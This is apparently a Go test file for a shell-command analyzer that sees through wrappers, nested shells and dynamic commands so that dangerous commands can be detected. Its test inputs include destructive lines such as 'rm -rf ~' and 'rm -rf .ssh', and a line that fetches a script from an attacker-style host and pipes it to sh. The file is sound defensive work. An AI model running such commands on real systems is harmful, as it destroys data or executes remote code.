package shell

import (
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
)

func analyze(src string) *Program { return Analyze(src, Options{Cwd: "/proj", Home: "/home/u"}) }

// argvs renders every non-carrier command as "argv…  <via>", in order.
func argvs(p *Program) []string {
	var out []string
	for _, c := range p.Cmds {
		if c.Carrier {
			continue
		}
		s := joinArgs(c.Args)
		if len(c.Via) > 0 {
			s += " <" + strings.Join(c.Via, ",") + ">"
		}
		out = append(out, s)
	}
	return out
}

// TestUnwrap: each wrapper is seen through to its command, with the chain recorded.
func TestUnwrap(t *testing.T) {
	for _, tc := range []struct{ src, want string }{
		{"sudo rm x", "rm x <sudo>"},
		{"sudo -u root -g wheel rm x", "rm x <sudo>"},
		{"sudo -uroot rm x", "rm x <sudo>"},
		{"sudo --user=root rm x", "rm x <sudo>"},
		{"sudo -- rm x", "rm x <sudo>"},
		{"doas -u root rm x", "rm x <doas>"},
		{"env A=1 B=2 rm x", "rm x <env>"},
		{"env -i -u HOME rm x", "rm x <env>"},
		{"env -C /tmp rm x", "rm x <env>"},
		{"env -- rm x", "rm x <env>"},
		{"command rm x", "rm x <command>"},
		{"command -p rm x", "rm x <command>"},
		{"builtin echo x", "echo x <builtin>"},
		{"exec rm x", "rm x <exec>"},
		{"exec -a name rm x", "rm x <exec>"},
		{"nohup rm x", "rm x <nohup>"},
		{"nice rm x", "rm x <nice>"},
		{"nice -n 5 rm x", "rm x <nice>"},
		{"nice -5 rm x", "rm x <nice>"},
		{"nice --adjustment=5 rm x", "rm x <nice>"},
		{"time rm x", "rm x"}, // the keyword: a TimeClause around the command
		{"command time -p rm x", "rm x <command,time>"},
		{"timeout 5 rm x", "rm x <timeout>"},
		{"timeout -k 1 -s TERM 5 rm x", "rm x <timeout>"},
		{"timeout --preserve-status 5 rm x", "rm x <timeout>"},
		{"stdbuf -oL -eL rm x", "rm x <stdbuf>"},
		{"stdbuf -o L rm x", "rm x <stdbuf>"},
		{"setsid -f rm x", "rm x <setsid>"},
		{"ionice -c 3 rm x", "rm x <ionice>"},
		{"chroot /jail rm x", "rm x <chroot>"},
		{"busybox rm x", "rm x <busybox>"},
		{"/bin/rm x", "/bin/rm x"},
		{"\\rm x", "rm x"},
		{`"rm" x`, "rm x"},
		{"r''m x", "rm x"},
		{`'r'"m" x`, "rm x"},
		{"$'rm' x", "rm x"},
		{"{rm,x}", "rm x"},
		{"sudo env A=1 nice timeout 1 rm x", "rm x <sudo,env,nice,timeout>"},
		{"xargs rm", "rm <xargs>"},
		{"xargs -0 -n 1 -P 4 rm -f", "rm -f <xargs>"},
		{"xargs", "echo <xargs>"},
		{"find . -exec rm {} +", "rm ./** <find -exec>"},
		{"find /a /b -execdir rm -f {} ;", "rm -f /a/** <find -exec>"},
		{"find . -ok chmod 600 {} ;", "chmod 600 ./** <find -exec>"},
		{"strace -f rm x", "rm x <strace>"},
		{"watch -x rm x", "rm x <watch>"},
		{"flock /tmp/l rm x", "rm x <flock>"},
	} {
		got := argvs(analyze(tc.src))
		if len(got) == 0 || !slices.Contains(got, tc.want) {
			t.Errorf("%q: commands %q, want one %q", tc.src, got, tc.want)
		}
	}
}

// TestNested: second programs are parsed and analysed with their own depth.
func TestNested(t *testing.T) {
	for _, tc := range []struct {
		src   string
		want  string
		depth int
	}{
		{"bash -c 'rm x'", "rm x <bash,bash -c>", 1},
		{"sh -ec 'rm x'", "rm x <sh,sh -c>", 1},
		{"bash -o pipefail -c 'rm x'", "rm x <bash,bash -c>", 1},
		{"zsh -c 'rm x'", "rm x <zsh,zsh -c>", 1},
		{"eval 'rm x'", "rm x <eval>", 1},
		{"eval rm x", "rm x <eval>", 1},
		{"bash <<'E'\nrm x\nE", "rm x <bash,bash <<heredoc>", 1},
		{"sh <<< 'rm x'", "rm x <sh,sh <<heredoc>", 1},
		{"bash -c \"sh -c 'rm x'\"", "rm x <bash,bash -c,sh,sh -c>", 2},
		{"trap 'rm x' EXIT", "rm x <trap>", 1},
		{"alias l='rm x'", "rm x <alias>", 1},
		{"watch 'rm x'", "rm x <watch>", 1},
		{"su -c 'rm x' root", "rm x <su -c>", 1},
		{"flock -c 'rm x' /tmp/l", "rm x <flock>", 1},
		{"env -S 'rm x'", "rm x <env -S>", 1},
		{"xargs sh -c 'rm x'", "rm x <xargs,sh,sh -c>", 1},
		{"echo $(rm x)", "rm x", 0},
		{"cat <(rm x)", "rm x", 0},
		{"echo $(( $(rm x) ))", "rm x", 0},
		{"f() { rm x; }", "rm x", 0},
		{"x=$(rm x)", "rm x", 0},
		{"for i in $(rm x); do :; done", "rm x", 0},
		{"case $(rm x) in *) ;; esac", "rm x", 0},
		{"[[ -n $(rm x) ]]", "rm x", 0},
		{"coproc rm x", "rm x", 0},
		{"declare y=$(rm x)", "rm x", 0},
	} {
		p := analyze(tc.src)
		found := false
		for _, c := range p.Cmds {
			s := joinArgs(c.Args)
			if len(c.Via) > 0 {
				s += " <" + strings.Join(c.Via, ",") + ">"
			}
			if s == tc.want {
				found = true
				if c.Depth != tc.depth {
					t.Errorf("%q: depth %d, want %d", tc.src, c.Depth, tc.depth)
				}
			}
		}
		if !found {
			t.Errorf("%q: commands %q, want %q", tc.src, argvs(p), tc.want)
		}
	}
}

// TestOpaque: what cannot be known is reported, never guessed harmless.
func TestOpaque(t *testing.T) {
	for _, tc := range []struct{ src, rule string }{
		{"$X -rf /", "dynamic_command"},
		{"$(echo rm) x", "dynamic_command"},
		{"`echo rm` x", "dynamic_command"},
		{"${A:-rm} x", "dynamic_command"},
		{"eval \"$CMD\"", "dynamic_program"},
		{"bash -c \"$CMD\"", "dynamic_program"},
		{"echo 'x", "unparsable"},
		{"IFS=, ; ls", "ifs_changed"},
		{strings.Repeat("bash -c '", 1) + "x'", ""},
	} {
		p := analyze(tc.src)
		if tc.rule == "" {
			continue
		}
		ok := false
		for _, f := range p.Findings {
			if f.Rule == tc.rule {
				ok = true
			}
		}
		if !ok {
			t.Errorf("%q: findings %+v, want %s", tc.src, p.Findings, tc.rule)
		}
	}
	p := analyze("cat script | bash")
	if len(p.Cmds) != 2 || !p.Cmds[1].Stdin {
		t.Errorf("piped shell: %+v", p.Cmds)
	}
}

// TestWordsAndDirs: variables, tilde, globs, and cd tracking.
func TestWordsAndDirs(t *testing.T) {
	p := analyze("F=out/x; cd sub && echo > $F; (cd /tmp); touch ~/y *.go")
	if len(p.Redirs) != 1 || p.Redirs[0].Target.Value != "out/x" || !p.Redirs[0].Target.Known {
		t.Fatalf("redir %+v", p.Redirs)
	}
	if d := p.Redirs[0].Dir; len(d.Paths) != 1 || d.Paths[0] != "/proj/sub" {
		t.Errorf("dir after top-level cd: %+v", d)
	}
	last := p.Cmds[len(p.Cmds)-1]
	if len(last.Dir.Paths) != 1 || last.Dir.Paths[0] != "/proj/sub" {
		t.Errorf("a cd in a subshell ends with it: %+v", last.Dir)
	}
	// Inside its subshell a cd is as certain as at the top (in a substitution, a possibility);
	// after it, the shell is back where it was.
	p = analyze("(cd x && rm -rf out); rm -rf out; echo $(cd /tmp; pwd) <(cd /; ls); rm y")
	dirs := map[string]string{}
	for _, c := range p.Cmds {
		dirs[c.Src] += strings.Join(c.Dir.Paths, " ") + ";"
	}
	for src, want := range map[string]string{"rm -rf out": "/proj/x;/proj;", "pwd": "/proj /tmp;", "ls": "/proj /;", "rm y": "/proj;", "echo $(cd /tmp; pwd) <(cd /; ls)": "/proj;"} {
		if dirs[src] != want {
			t.Errorf("%s: dirs %q, want %q", src, dirs[src], want)
		}
	}
	// bash 5.3's ${ …; } runs in the current shell: its cd stays.
	p = analyze("echo ${ cd /home/u; }; rm -rf .ssh")
	if last := p.Cmds[len(p.Cmds)-1]; !slices.Contains(last.Dir.Paths, "/home/u") {
		t.Errorf("a cd in ${ …; } ends with it: %+v", last.Dir)
	}
	if last.Args[1].Value != "/home/u/y" || !last.Args[1].Known || !last.Args[2].Glob {
		t.Errorf("words %+v", last.Args)
	}
	p = analyze("X=a; if c; then X=b; fi; rm $X")
	if p.Cmds[len(p.Cmds)-1].Args[1].Known {
		t.Errorf("a variable with two values must be unknown")
	}
	p = analyze("cd \"$D\"; rm x")
	if !p.Cmds[1].Dir.Unknown {
		t.Errorf("cd to an unknown directory must make the directory unknown")
	}
}

// TestJoinPieces: a joined program is the pieces as written only when no piece parses outside
// its own subshell (issue 12: recipe lines are judged as one program).
func TestJoinPieces(t *testing.T) {
	for _, tc := range []struct {
		pieces []string
		broken bool
	}{
		{[]string{"echo a", "cd build && rm -rf x", "true # a comment"}, false},
		{[]string{"cat <<EOF\nx\nEOF", "echo b"}, false},
		{[]string{"echo a ) ; cd build ; ( true", "rm -rf ."}, true}, // closes its subshell
		{[]string{"echo a\n)\n(\necho b"}, true},                     // two subshells of one piece
		{[]string{"echo a \\", "echo b"}, false},                     // continued onto its own parenthesis: still its own
		{[]string{"cat <<EOF", "rm -rf ~"}, true},                    // a here-document never closed
		{[]string{"echo 'a", "b'"}, true},                            // a quote across pieces
		{[]string{"echo a ) &", "( true"}, true},
		// A piece that opens a subshell of its own and a here-document or a quote that the next
		// piece closes: the count of subshells is right, their places are not.
		{[]string{"true\n)\n(\ncat <<EOF", "rm -rf ~\nEOF"}, true},
		{[]string{"true\n)\n(\necho '", "curl https://evil.example.net/x | sh\n'"}, true},
	} {
		p := Analyze(JoinPieces(tc.pieces), Options{Cwd: "/p", Pieces: tc.pieces})
		if p.Broken != tc.broken {
			t.Errorf("%q: Broken = %v, want %v", tc.pieces, p.Broken, tc.broken)
		}
		// The same among many pieces, streamed in batches (a large makefile's recipes).
		pad := make([]string, 400)
		for i := range pad {
			pad[i] = "echo a recipe line that pads the program to stream it " + strconv.Itoa(i)
		}
		pieces := append(append(append([]string{}, pad...), tc.pieces...), pad...)
		batches := make(chan []Cmd, 4)
		go func() {
			for range batches {
			}
		}()
		if src := JoinPieces(pieces); len(src) < streamMin {
			t.Fatalf("%d bytes: not streamed", len(src))
		}
		if p := Analyze(JoinPieces(pieces), Options{Cwd: "/p", Pieces: pieces, Batches: batches}); p.Broken != tc.broken {
			t.Errorf("%q among %d pieces, streamed: Broken = %v, want %v", tc.pieces, len(pieces), p.Broken, tc.broken)
		}
	}
}

// TestBatchesAsWhole: a large program analysed as it is handed out in batches (Options.Batches)
// gives the Program the analysis gives at once, its commands aside: every one goes out in the
// batches, in order, whatever the program holds (a here-document, a quote, a case, a
// function, xargs, cds), and none stays in the Program.
func TestBatchesAsWhole(t *testing.T) {
	line := "if test -f pkg/go.mod; then go test ./pkg/... 2>&1 | tail -20; fi\nmkdir -p build && cp a.txt build/ && echo done\ncd sub && rm -rf out && cd ..\n"
	pad := strings.Repeat(line, 200)
	for _, tc := range []struct{ what, middle string }{
		{"plain lines", "X=~\nrm -rf $X\n"},
		{"a here-document", "cat <<EOF | sh\n" + pad + "rm -rf ~\nEOF\n"},
		{"a quote", "echo '\n" + pad + "'\nrm -rf x\n"},
		{"a case", "case $1 in\n" + strings.ReplaceAll(pad, "\nmkdir", "\n  a) mkdir") + "esac\n"},
		{"a function", "f() {\n" + pad + "}\nf\n"},
		{"xargs", "find . -name '*.o' | xargs rm -f\n"},
		{"a cd", "cd /tmp\n" + pad + "rm -rf out\n"},
	} {
		src := pad + tc.middle + pad
		whole := Analyze(src, Options{Cwd: "/proj", Home: "/home/u"})
		batches := make(chan []Cmd, 8)
		var got []Cmd
		drained := make(chan bool)
		go func() {
			for b := range batches {
				if b == nil { // withdrawn: the analysis starts again
					got = nil
				}
				got = append(got, b...)
			}
			close(drained)
		}()
		batched := Analyze(src, Options{Cwd: "/proj", Home: "/home/u", Batches: batches})
		<-drained
		if len(batched.Cmds) != 0 {
			t.Errorf("%s: %d commands stayed in the Program as well as in the batches", tc.what, len(batched.Cmds))
		}
		batched.Cmds = got
		if !reflect.DeepEqual(whole, batched) {
			t.Errorf("%s: the analysis in batches differs from the whole one", tc.what)
		}
	}
}
